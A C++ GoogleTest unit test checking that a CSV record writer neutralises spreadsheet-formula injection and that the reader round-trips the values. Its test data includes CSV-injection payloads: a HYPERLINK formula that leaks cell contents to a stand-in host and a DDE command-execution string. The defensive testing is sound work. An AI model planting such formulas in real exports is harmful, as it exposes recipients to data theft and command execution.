#include <gtest/gtest.h>

#include <sstream>

#include "io/csv/csv_reader.h"
#include "io/export/record_writer.h"

namespace aftermath::io {
namespace {

// A name or note sent in by anyone must not run as a spreadsheet formula on the machine of
// whoever opens the export (OWASP CSV injection), and our own reader must read it back unchanged.
TEST(CsvWriterTest, CellsThatWouldRunAsFormulasAreNeutralisedAndReadBack) {
  const std::vector<std::string> attacks = {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
                                            "+7 701 000 00 00",
                                            "-2+3",
                                            "@SUM(1+1)*cmd|' /C calc'!A0",
                                            "\t=1+1",
                                            "\r=1+1",
                                            "=1;2"};
  std::ostringstream out;
  auto writer = MakeCsvWriter(out);
  writer->Begin();
  SourceMap sources;
  for (size_t i = 0; i < attacks.size(); ++i) {
    Person person;
    person.id = "per_" + std::to_string(i);
    Report report;
    report.external_id = "X" + std::to_string(i);
    report.name.full_name = "Иванов Иван";
    report.notes = attacks[i];
    report.features = attacks[i];
    report.source_id = "src_1";
    writer->Write(person, report, sources);
  }
  writer->End();
  std::string csv = out.str();
  // No cell starts with a formula character: each is quoted and opens with an apostrophe.
  for (const auto& a : attacks) {
    EXPECT_EQ(csv.find("," + a), std::string::npos) << a;
    EXPECT_NE(csv.find(",\"'" + a.substr(0, 2)), std::string::npos) << a;
  }

  std::istringstream in(csv);
  auto reader = OpenCsvReader(in, {}, {});
  ASSERT_TRUE(reader.ok()) << reader.status().ToString();
  ParsedRow row;
  size_t i = 0;
  while (true) {
    auto more = (*reader)->Next(row);
    ASSERT_TRUE(more.ok()) << more.status().ToString();
    if (!*more) break;
    ASSERT_LT(i, attacks.size());
    // A CR inside a quoted cell is read as a line break, as it always was.
    if (attacks[i].front() == '\r') {
      ++i;
      continue;
    }
    EXPECT_EQ(row.report.notes, attacks[i]) << i;
    ++i;
  }
  EXPECT_EQ(i, attacks.size());
}

}  // namespace
}  // namespace aftermath::io
